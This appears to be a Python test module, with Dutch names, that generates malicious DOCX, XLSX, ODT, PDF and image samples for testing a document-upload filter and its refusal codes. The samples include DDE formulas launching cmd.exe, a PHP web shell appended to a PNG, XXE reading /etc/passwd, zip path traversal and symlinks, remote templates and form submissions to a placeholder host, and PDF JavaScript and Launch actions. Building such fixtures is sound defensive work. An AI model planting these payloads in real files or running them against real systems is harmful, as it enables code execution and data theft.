"""Hostile files, made here and never kept: (name, file, code of the refusal)."""

import struct
import warnings
import zipfile
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf

from tests.kern.bestanden.bouwen import (
    DOCX_MAIN,
    EXE,
    MS_REL,
    NS,
    OLE,
    REL,
    STRICT,
    S,
    W,
    append_revision,
    at_root,
    flag_encrypted,
    make_docx,
    make_image,
    make_odt,
    make_pdf,
    make_rels,
    make_types,
    make_xlsx,
    make_zip,
    parse_pdf,
    with_annotation,
)

Maken = Callable[[], bytes]
VBA = "application/vnd.ms-office.vbaProject"
MACROSHEET = "application/vnd.ms-excel.macrosheet+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
EXTERNAL_ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
JS = "<< /S /JavaScript /JS (app.alert(1)) >>"


def field(*runs: str) -> str:
    """A field of Word whose instruction is cut over these runs."""
    inner = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def quoted_field() -> str:
    """DDEAUTO written as the numbers of its characters, in a field within the field."""
    codes = " ".join(str(ord(char)) for char in "DDEAUTO")
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    return (
        f"<w:p><w:r>{begin}</w:r><w:r>{begin}<w:instrText>QUOTE {codes}</w:instrText>{end}</w:r>"
        f"<w:r><w:instrText> c:\\\\windows\\\\cmd.exe</w:instrText>{end}</w:r></w:p>"
    )


def with_settings(*relations: Any) -> bytes:
    return make_docx(
        parts={"word/settings.xml": f"<w:settings {W}/>", "word/_rels/settings.xml.rels": make_rels(*relations)}
    )


def with_sheet(root: str) -> bytes:
    """A workbook whose second sheet is of this kind, and called as a usual one."""
    return make_xlsx(parts={"xl/worksheets/sheet2.xml": root})


def with_cell(formula: str) -> bytes:
    return make_xlsx(f"<c><f>{formula}</f><v>0</v></c>")


def with_chart(embedded: bytes) -> bytes:
    """A document with a chart and the workbook behind it."""
    return make_docx(
        parts={
            "word/charts/chart1.xml": f'<c:chartSpace xmlns:c="{NS}drawingml/2006/chart"/>',
            "word/charts/_rels/chart1.xml.rels": make_rels((f"{REL}package", "../embeddings/Werkblad.xlsx")),
            "word/embeddings/Werkblad.xlsx": embedded,
        },
        defaults={"xlsx": SHEET},
    )


def rename_types() -> bytes:
    """vbaProject under another name, and the list of types in UTF-16."""
    types = make_types({"word/document.xml": DOCX_MAIN, "word/gegevens.dat": VBA}).replace(
        "1.0", '1.0" encoding="UTF-16', 1
    )
    return make_docx(parts={"[Content_Types].xml": types.encode("utf-16"), "word/gegevens.dat": b"x"})


def twice(name: str, other: str) -> bytes:
    output = BytesIO(make_docx())
    with zipfile.ZipFile(output, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of what we mean to do
        archive.writestr(name, b"<x/>")
        archive.writestr(other, b"<y/>")
    return output.getvalue()


def symlink() -> bytes:
    output = BytesIO(make_docx())
    with zipfile.ZipFile(output, "a") as archive:
        link = zipfile.ZipInfo("word/koppeling.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return output.getvalue()


def hide_between() -> bytes:
    """A part that stands in the zip but not in its directory."""
    plain = make_docx()
    end = plain.rindex(b"PK\x05\x06")
    start = struct.unpack("<L", plain[end + 16 : end + 20])[0]
    hidden = make_zip({"verborgen.exe": EXE}, zipfile.ZIP_STORED)[:150]
    moved = plain[end : end + 16] + struct.pack("<L", start + len(hidden)) + plain[end + 20 :]
    return plain[:start] + hidden + plain[start:end] + moved


def overlap() -> bytes:
    """Two names for the same bytes."""
    plain = bytearray(make_zip({"[Content_Types].xml": make_types({}), "a.xml": b"<x/>", "b.xml": b"<x/>"}))
    first, second = (plain.index(b"PK\x01\x02", plain.index(b"PK\x01\x02") + 4), plain.rindex(b"PK\x01\x02"))
    plain[second + 42 : second + 46] = plain[first + 42 : first + 46]
    return bytes(plain)


def attach(pdf: Any) -> None:
    pdf.attachments["geheim.exe"] = EXE


def script_stream(pdf: Any) -> None:
    script = pdf.make_stream(b"app.alert(1)")
    pdf.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=script))


def stream_elsewhere(pdf: Any) -> None:
    stream = pdf.make_stream(b"")
    stream.stream_dict["/F"] = pikepdf.String("http://kwaad.example/a")
    pdf.pages[0].obj.Contents = stream


def page_event(pdf: Any) -> None:
    pdf.pages[0].obj.AA = parse_pdf("<< /O << /S /URI /URI (https://kwaad.example/) >> >>")


def xfa(pdf: Any) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pdf.make_stream(b"<xdp:xdp/>"), Fields=pikepdf.Array())


def png_then(content: bytes) -> bytes:
    return make_image("PNG") + content


ARCHIVE = make_zip({"geheim.txt": "geheim"})
GOTOR = "<< /Subtype /Link /A << /S /GoToR /D [0 /Fit] /F {} >> >>"
LINK = "<< /Subtype /Link /A << /S /URI /URI ({}) >> >>"

MACROS: list[tuple[str, Maken, str]] = [
    ("a.docx", lambda: make_docx(parts={"word/vbaProject.bin": OLE}, defaults={"bin": VBA}), "macro"),
    ("naam.docx", lambda: make_docx(parts={"word/gegevens.dat": b"x"}, types={"word/gegevens.dat": VBA}), "macro"),
    ("utf16.docx", rename_types, "macro"),
    ("relatie.docx", lambda: make_docx("", (f"{MS_REL}vbaProject", "a.dat"), parts={"word/a.dat": b"x"}), "macro"),
    ("soort.docx", lambda: make_docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "macro"),
    ("soort.xlsx", lambda: make_xlsx(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "macro"),
    ("binair.xlsx", lambda: make_xlsx(main="application/vnd.ms-excel.sheet.binary.macroEnabled.main"), "macro"),
    ("lint.docx", lambda: make_zip_with_root_relation("ui/extensibility", "customUI/a.xml"), "macro"),
    ("lint.xlsx", lambda: make_xlsx(parts={"xl/b.xml": '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui"/>'}), "macro"),
    ("balk.docx", lambda: make_docx("", (f"{MS_REL}attachedToolbars", "b.bin")), "macro"),
    ("blad4.xlsx", lambda: make_xlsx("", (f"{MS_REL}xlMacrosheet", "worksheets/sheet2.xml")), "macroblad"),
    ("soort4.xlsx", lambda: make_xlsx(parts={"xl/b.xml": "<x/>"}, types={"xl/b.xml": MACROSHEET}), "macroblad"),
    ("kern4.xlsx", lambda: with_sheet('<m:macrosheet xmlns:m="http://schemas.microsoft.com/office/excel/2006/main"/>'), "macroblad"),
    ("dialoog.xlsx", lambda: with_sheet(f"<dialogsheet {S}/>"), "macroblad"),
    ("strict4.xlsx", lambda: with_sheet(f'<dialogsheet xmlns="{STRICT}spreadsheetml/main"/>'), "macroblad"),
    ("open.xlsx", lambda: make_xlsx(names='<definedName name="_xlnm.Auto_Open">Blad1!$A$1</definedName>'), "macroblad"),
    ("xlm.xlsx", lambda: make_xlsx(names='<definedName name="a" xlm="1">Blad1!$A$1</definedName>'), "macroblad"),
    ("call.xlsx", lambda: with_cell('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'), "macroblad"),
]  # fmt: skip

OBJECTEN: list[tuple[str, Maken, str]] = [
    ("ole.docx", lambda: make_docx("", (f"{REL}oleObject", "embeddings/a.bin")), "ole"),
    ("olestrict.docx", lambda: make_docx("", (f"{STRICT}officeDocument/relationships/oleObject", "a.bin")), "ole"),
    ("olemagie.docx", lambda: make_docx(parts={"word/media/foto.png": OLE}, defaults={"png": "image/png"}), "ole"),
    ("oleelement.docx", lambda: make_docx('<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Package"/></w:object>'), "ole"),
    ("oleblad.xlsx", lambda: make_xlsx('<oleObjects><oleObject progId="Package"/></oleObjects>'), "ole"),
    ("exe.docx", lambda: make_docx(parts={"word/media/foto.png": EXE}, defaults={"png": "image/png"}), "ingebed"),
    ("naam.docx", lambda: make_docx(parts={"word/media/start.hta": b"x"}, defaults={"hta": "image/png"}), "ingebed"),
    ("pakket.docx", lambda: make_docx("", (f"{REL}package", "embeddings/a.docx")), "ingebed"),
    ("zipinzip.docx", lambda: make_docx(parts={"word/media/a.emf": ARCHIVE}, defaults={"emf": "image/x-emf"}), "ingebed"),
    ("rtf.docx", lambda: make_docx("", (f"{REL}aFChunk", "a.rtf")), "ingebed"),
    ("grafiek.docx", lambda: with_chart(EXE), "ingebed"),
    ("grafiekmacro.docx", lambda: with_chart(make_xlsx("", (f"{MS_REL}vbaProject", "x.dat"))), "macro"),
    ("grafiekgrafiek.docx", lambda: with_chart(with_chart(make_xlsx())), "ingebed"),
    ("activex.docx", lambda: make_docx("", (f"{REL}control", "a.xml")), "activex"),
    ("activex.xlsx", lambda: make_xlsx(parts={"xl/a.xml": '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'}), "activex"),
    ("film.docx", lambda: make_docx(parts={"word/media/a.mp4": b"\0\0\0 ftypmp42"}, defaults={"mp4": "video/mp4"}), "onbekend_deel"),
    ("svg.docx", lambda: make_docx(parts={"word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'}, defaults={"svg": "image/svg+xml"}), "script"),
]  # fmt: skip

NAAR_BUITEN: list[tuple[str, Maken, str]] = [
    ("dde.docx", lambda: make_docx(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "dde"),
    ("ddegeknipt.docx", lambda: make_docx(field("DD", "EAU", "TO c:\\\\a")), "dde"),
    ("ddecodes.docx", lambda: make_docx(quoted_field()), "dde"),
    ("ddekort.docx", lambda: make_docx('<w:p><w:fldSimple w:instr=" dde excel a"/></w:p>'), "dde"),
    ("ddekop.docx", lambda: make_docx(parts={"word/header1.xml": f"<w:hdr {W}>{field('DDE a b')}</w:hdr>"}), "dde"),
    ("dde.xlsx", lambda: with_cell("cmd|'/c calc'!A0"), "dde"),
    ("ddelink.xlsx", lambda: make_xlsx(parts={"xl/a.xml": f'<x><ddeLink {S} ddeService="cmd" ddeTopic="/c calc"/></x>'}), "dde"),
    ("ddenaam.xlsx", lambda: make_xlsx(names="<definedName name=\"a\">cmd|'/c calc'!A0</definedName>"), "dde"),
    ("sjabloon.docx", lambda: with_settings((f"{REL}attachedTemplate", "https://kwaad.example/a.dotm", "External")), "extern"),
    ("sjabloonunc.docx", lambda: with_settings((f"{REL}attachedTemplate", "file:///\\\\kwaad\\a.dotm", "External")), "extern"),
    ("koppeling.xlsx", lambda: make_xlsx("", (f"{REL}externalLink", "externalLinks/a.xml")), "extern"),
    ("hernoemd.xlsx", lambda: make_xlsx(parts={"xl/a.xml": f"<externalLink {S}/>"}), "extern"),
    ("beeld.docx", lambda: make_docx("", (f"{REL}image", "http://kwaad.example/a.png", "External")), "extern"),
    ("beeldveld.docx", lambda: make_docx(field('INCLUDEPICTURE "http://kwaad.example/a.png" \\d')), "extern"),
    ("vml.docx", lambda: make_docx('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\\\kwaad\\a.png"/>'), "extern"),
    ("frame.docx", lambda: make_docx("", (f"{REL}frame", "http://kwaad.example/", "External")), "extern"),
    ("deeldoc.docx", lambda: make_docx("", (f"{REL}subDocument", "\\\\kwaad\\a.docx", "External")), "extern"),
    ("bron.docx", lambda: with_settings((f"{REL}mailMergeSource", "file:///C:\\a.csv", "External")), "extern"),
    ("verbinding.xlsx", lambda: make_xlsx("", (f"{REL}connections", "connections.xml")), "extern"),
    ("webservice.xlsx", lambda: with_cell('_xlfn.WEBSERVICE("http://kwaad.example/")'), "extern"),
    ("padformule.xlsx", lambda: with_cell("'\\\\kwaad\\[a.xlsx]Blad1'!A1"), "extern"),
    ("link.docx", lambda: make_docx("", (f"{REL}hyperlink", "ms-msdt:/id", "External")), "link"),
    ("linkunc.docx", lambda: make_docx("", (f"{REL}hyperlink", "file://kwaad/a.exe", "External")), "link"),
    ("linkscript.xlsx", lambda: make_xlsx("", (f"{REL}hyperlink", "javascript:alert(1)", "External")), "link"),
]  # fmt: skip

PAKKETTEN: list[tuple[str, Maken, str]] = [
    ("entiteit.docx", lambda: make_docx(parts={"word/document.xml": f"{ENTITIES}<x>&b;</x>"}), "entiteiten"),
    ("entiteitrels.docx", lambda: make_docx(parts={"_rels/.rels": f"{EXTERNAL_ENTITY}<x>&a;</x>"}), "entiteiten"),
    ("entiteit16.xlsx", lambda: make_xlsx(parts={"xl/a.xml": f'<?xml version="1.0" encoding="UTF-16"?>{ENTITIES}<x/>'.encode("utf-16")}), "entiteiten"),
    ("utf7.docx", lambda: make_docx(parts={"word/a.xml": '<?xml version="1.0" encoding="utf-7"?><x/>'}), "kapot"),
    ("geenxml.docx", lambda: make_docx(parts={"word/a.xml": b"\x4c\xa7\x94\x93"}), "kapot"),
    ("bom.docx", lambda: make_docx(parts={"word/media/a.png": b"\0" * 5_000_000}), "zipbom"),
    ("overlap.docx", overlap, "zipbom"),
    ("veel.xlsx", lambda: make_xlsx(parts={f"a/{number}": b"" for number in range(10_001)}), "zipbom"),
    ("dubbel.docx", lambda: twice("word/a.xml", "word/a.xml"), "dubbel"),
    ("dubbelkapitaal.docx", lambda: twice("word/a.xml", "word/A.xml"), "dubbel"),
    ("omhoog.docx", lambda: make_docx(parts={"../../start.xml": "<x/>"}), "pad"),
    ("absoluut.xlsx", lambda: make_xlsx(parts={"/etc/cron.d/a": "<x/>"}), "pad"),
    ("schijf.xlsx", lambda: make_xlsx(parts={"C:\\a.xml": "<x/>"}), "pad"),
    ("symlink.docx", symlink, "pad"),
    ("erachter.docx", lambda: make_docx() + EXE, "verborgen"),
    ("tussenin.docx", hide_between, "verborgen"),
    ("slot.docx", lambda: flag_encrypted(make_docx()), "beveiligd"),
    ("slot.xlsx", lambda: OLE, "oud_office"),
    ("half.docx", lambda: make_docx()[:-30], "kapot"),
    ("geensoort.docx", lambda: make_zip({"word/document.xml": "<x/>"}), "soort"),
]  # fmt: skip

ODF: list[tuple[str, Maken, str]] = [
    ("basic.odt", lambda: make_odt(parts={"Basic/Standard/Module1.xml": "<x/>"}), "macro"),
    ("gebeurtenis.odt", lambda: make_odt('<office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:a"/></office:event-listeners>'), "macro"),
    ("dde.odt", lambda: make_odt('<text:dde-connection-decl office:dde-application="cmd"/>'), "dde"),
    ("ole.odt", lambda: make_odt('<draw:object-ole xlink:href="./Object 1"/>'), "ole"),
    ("olemagie.odt", lambda: make_odt(parts={"Object 1": OLE}), "ole"),
    ("plugin.odt", lambda: make_odt('<draw:plugin xlink:href="a.swf"/>'), "ingebed"),
    ("exe.odt", lambda: make_odt(parts={"Pictures/a.png": EXE}), "ingebed"),
    ("beeld.odt", lambda: make_odt('<draw:image xlink:href="http://kwaad.example/a.png"/>'), "extern"),
    ("deel.odt", lambda: make_odt('<text:section-source xlink:href="file://kwaad/a.odt"/>'), "extern"),
    ("link.odt", lambda: make_odt('<text:a xlink:href="vnd.sun.star.script:a?language=Basic">hier</text:a>'), "link"),
    ("formulier.odt", lambda: make_odt('<form:form xlink:href="http://kwaad.example/"/>'), "verzenden"),
    ("slot.odt", lambda: make_odt(manifest="<manifest:encryption-data/>"), "beveiligd"),
    ("entiteit.odt", lambda: make_odt(parts={"styles.xml": f"{ENTITIES}<x/>"}), "entiteiten"),
]  # fmt: skip

PDFS: list[tuple[str, Maken, str]] = [
    ("open.pdf", lambda: at_root("/OpenAction", JS), "script"),
    ("boom.pdf", lambda: at_root("/Names", f"<< /JavaScript << /Names [(a) {JS}] >> >>"), "script"),
    ("stroom.pdf", lambda: make_pdf(script_stream), "script"),
    ("verhuld.pdf", lambda: at_root("/OpenAction", "<< /S /J#61vaScript /#4aS (app.alert(1)) >>"), "script"),
    ("keten.pdf", lambda: with_annotation(f"<< /Subtype /Link /A << /S /GoTo /D [0 /Fit] /Next {JS} >> >>"), "script"),
    ("veld.pdf", lambda: at_root("/AcroForm", f"<< /Fields [<< /FT /Tx /T (a) /AA << /K {JS} >> >>] >>"), "script"),
    ("objectstroom.pdf", lambda: at_root("/OpenAction", JS, object_stream_mode=pikepdf.ObjectStreamMode.generate), "script"),
    ("revisie.pdf", lambda: append_revision(make_pdf(), "OpenAction", JS), "script"),
    ("launch.pdf", lambda: with_annotation("<< /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>"), "starten"),
    ("gotoe.pdf", lambda: with_annotation("<< /Subtype /Link /A << /S /GoToE /T << /R /C >> >> >>"), "starten"),
    ("gotor.pdf", lambda: with_annotation(GOTOR.format("(\\\\\\\\kwaad\\\\a.pdf)")), "starten"),
    ("gotorurl.pdf", lambda: with_annotation(GOTOR.format("<< /FS /URL /F (http://kwaad.example/a.pdf) >>")), "starten"),
    ("gotoruf.pdf", lambda: with_annotation(GOTOR.format("<< /F (a.pdf) /UF (\\\\\\\\kwaad\\\\a.pdf) >>")), "starten"),
    ("submit.pdf", lambda: at_root("/OpenAction", "<< /S /SubmitForm /F (http://kwaad.example/) >>"), "verzenden"),
    ("import.pdf", lambda: with_annotation("<< /Subtype /Link /A << /S /ImportData /F (a.fdf) >> >>"), "verzenden"),
    ("uriopen.pdf", lambda: at_root("/OpenAction", "<< /S /URI /URI (https://kwaad.example/) >>"), "automatisch"),
    ("uripagina.pdf", lambda: make_pdf(page_event), "automatisch"),
    ("urischema.pdf", lambda: with_annotation(LINK.format("javascript:alert(1)")), "link"),
    ("uriunc.pdf", lambda: with_annotation(LINK.format("file://kwaad/a.exe")), "link"),
    ("bijlage.pdf", lambda: make_pdf(attach), "ingebed"),
    ("speld.pdf", lambda: with_annotation("<< /Subtype /FileAttachment >>"), "ingebed"),
    ("map.pdf", lambda: at_root("/Collection", "<< /Type /Collection >>"), "ingebed"),
    ("rijk.pdf", lambda: with_annotation("<< /Subtype /RichMedia >>"), "media"),
    ("driedee.pdf", lambda: with_annotation("<< /Subtype /3D >>"), "media"),
    ("geluid.pdf", lambda: with_annotation("<< /Subtype /Link /A << /S /Sound >> >>"), "media"),
    ("xfa.pdf", lambda: make_pdf(xfa), "xfa"),
    ("elders.pdf", lambda: make_pdf(stream_elsewhere), "extern"),
    ("vel.pdf", lambda: at_root("/Extra", "<< /Subtype /Form /Ref << /F (http://kwaad.example/a.pdf) >> >>"), "extern"),
    ("slot.pdf", lambda: make_pdf(encryption=pikepdf.Encryption(owner="x", user="y")), "beveiligd"),
    ("slotleeg.pdf", lambda: make_pdf(encryption=pikepdf.Encryption(owner="x", user="")), "beveiligd"),
    ("half.pdf", lambda: make_pdf()[:-40], "kapot"),
    ("zip.pdf", lambda: make_pdf() + ARCHIVE, "dubbele_soort"),
    ("html.pdf", lambda: b"<html><script>1</script>" + make_pdf(), "dubbele_soort"),
]  # fmt: skip

BEELDEN: list[tuple[str, Maken, str]] = [
    ("zip.png", lambda: png_then(ARCHIVE), "dubbele_soort"),
    ("zip.jpg", lambda: make_image("JPEG") + ARCHIVE, "dubbele_soort"),
    ("exe.png", lambda: png_then(b"\0" + EXE), "dubbele_soort"),
    ("pdf.jpg", lambda: make_image("JPEG") + make_pdf(), "dubbele_soort"),
    ("script.jpg", lambda: make_image("JPEG", comment=b"<script>alert(1)</script>"), "dubbele_soort"),
    ("php.png", lambda: png_then(b"<?php system($_GET[1]); ?>"), "dubbele_soort"),
    ("svg.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "soort"),
    ("gif.png", lambda: make_image("GIF"), "soort"),
    ("groot.png", lambda: make_image("PNG", (9000, 7000)), "te_veel_pixels"),
    ("half.png", lambda: make_image("PNG", (300, 300))[:-60], "kapot"),
]  # fmt: skip

ANDERE: list[tuple[str, Maken, str]] = [
    ("brief.rtf", lambda: b"{\\rtf1\\object\\objdata 0105}", "soort"),
    ("bericht.eml", lambda: b"From: a@b.example\r\n\r\nhoi", "soort"),
    ("lijst.csv", lambda: b"=cmd|'/c calc'!A0;1", "soort"),
    ("pagina.html", lambda: b"<html><script>1</script>", "soort"),
    ("map.zip", lambda: ARCHIVE, "soort"),
    ("start.exe", lambda: EXE, "soort"),
    ("verslag.pdf", make_docx, "verkeerd_label"),
    ("verslag.pdf.exe", make_pdf, "verkeerd_label"),
]  # fmt: skip


def make_zip_with_root_relation(kind: str, target: str) -> bytes:
    """A document whose package itself, not its text, points to this."""
    relation = ("http://schemas.microsoft.com/office/2006/relationships/" + kind, target)
    return make_docx(parts={"_rels/.rels": make_rels((f"{REL}officeDocument", "word/document.xml"), relation)})


SOORTEN = {
    "macro's": MACROS, "objecten": OBJECTEN, "naar buiten": NAAR_BUITEN, "pakketten": PAKKETTEN, "odf": ODF, "pdf": PDFS,
    "beelden": BEELDEN, "andere": ANDERE,
}  # fmt: skip
